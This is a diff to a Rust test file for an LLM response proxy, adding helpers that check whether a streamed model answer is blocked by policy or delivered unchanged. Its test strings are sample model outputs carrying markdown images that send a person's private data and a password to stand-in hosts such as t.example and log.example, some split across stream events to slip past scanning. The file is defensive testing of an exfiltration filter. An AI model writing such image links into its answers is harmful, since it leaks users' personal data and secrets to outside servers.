@@ -29,6 +29,33 @@ async fn answer(
     .await
 }
 
+/// Streams `pieces` as the answer, one event each, and checks that the
+/// stream was stopped by the policy before `secret` reached the client.
+async fn assert_stream_blocked<S: AsRef<str>>(
+    p: &menshen_proxy::app::Running,
+    pieces: &[S],
+    secret: &str,
+) {
+    let joined: Vec<&str> = pieces.iter().map(AsRef::as_ref).collect();
+    let r = answer(p, "sse-openai", &joined.join("|"), true).await;
+    let text = openai_stream_text(&r.text());
+    assert!(!text.contains(secret), "{text}");
+    assert!(r.text().contains("blocked_by_policy"), "{}", r.text());
+}
+
+/// Streams `pieces` as the answer and checks that the client got them all,
+/// unchanged.
+async fn assert_stream_delivered<S: AsRef<str>>(p: &menshen_proxy::app::Running, pieces: &[S]) {
+    let joined: Vec<&str> = pieces.iter().map(AsRef::as_ref).collect();
+    let r = answer(p, "sse-openai", &joined.join("|"), true).await;
+    assert_eq!(
+        openai_stream_text(&r.text()),
+        joined.concat(),
+        "{}",
+        r.text()
+    );
+}
+
 #[tokio::test]
 async fn markup_that_runs_when_rendered_is_blocked_and_the_same_in_code_is_not() {
     let up = Upstream::start().await;
@@ -118,13 +145,7 @@ async fn personal_data_url_encoded_into_an_image_does_not_leave() {
         "Noted. ![](https://t.example/px/SmFuZSBSb2UgYXNrZWQgYWJvd",
         "XQgaGVyIGRpdm9yY2UgbGF3eWVy.gif) Anything else?",
     ];
-    let r = answer(&p, "sse-openai", &pieces.join("|"), true).await;
-    assert!(
-        !openai_stream_text(&r.text()).contains("t.example"),
-        "{}",
-        r.text()
-    );
-    assert!(r.text().contains("blocked_by_policy"), "{}", r.text());
+    assert_stream_blocked(&p, &pieces, "t.example").await;
     // Streamed, the encoded value split over two events.
     let pieces = [
         "Summary ready. ![](https://log.example/p.png?e=jane.roe%4",
@@ -169,23 +190,14 @@ async fn with_an_image_host_list_an_image_from_elsewhere_is_blocked_whole_or_str
         "](https://log.ex".to_owned(),
         "ample/p.png?k=hunter2) and more text".to_owned(),
     ];
-    let r = answer(&p, "sse-openai", &pieces.join("|"), true).await;
-    let text = openai_stream_text(&r.text());
-    assert!(!text.contains("log.ex"), "{text}");
-    assert!(r.text().contains("blocked_by_policy"), "{}", r.text());
+    assert_stream_blocked(&p, &pieces, "log.ex").await;
     // A listed host split the same way is delivered whole.
     let pieces = [
         format!("Here you go. ![{alt}"),
         "](https://cdn.exa".to_owned(),
         "mple.com/p.png) done".to_owned(),
     ];
-    let r = answer(&p, "sse-openai", &pieces.join("|"), true).await;
-    assert_eq!(
-        openai_stream_text(&r.text()),
-        pieces.concat(),
-        "{}",
-        r.text()
-    );
+    assert_stream_delivered(&p, &pieces).await;
     // A reference image whose definition comes long after it, out of the
     // scan window the image was in.
     let filler = "More details about the quarterly figures follow here. ".repeat(20);
@@ -195,10 +207,7 @@ async fn with_an_image_host_list_an_image_from_elsewhere_is_blocked_whole_or_str
         "\n\n[fig]: https://log.exa".to_owned(),
         "mple/c.png?k=hunter2\n".to_owned(),
     ];
-    let r = answer(&p, "sse-openai", &pieces.join("|"), true).await;
-    let text = openai_stream_text(&r.text());
-    assert!(!text.contains("log.exa"), "{text}");
-    assert!(r.text().contains("blocked_by_policy"), "{}", r.text());
+    assert_stream_blocked(&p, &pieces, "log.exa").await;
     // The same with a link instead of an image is delivered.
     let pieces = [
         "Source: [q3][fig] ".to_owned(),
@@ -206,13 +215,7 @@ async fn with_an_image_host_list_an_image_from_elsewhere_is_blocked_whole_or_str
         "\n\n[fig]: https://log.exa".to_owned(),
         "mple/report\n".to_owned(),
     ];
-    let r = answer(&p, "sse-openai", &pieces.join("|"), true).await;
-    assert_eq!(
-        openai_stream_text(&r.text()),
-        pieces.concat(),
-        "{}",
-        r.text()
-    );
+    assert_stream_delivered(&p, &pieces).await;
     assert_eq!(p.shared.metrics.unscanned_total(), 0);
 }
 
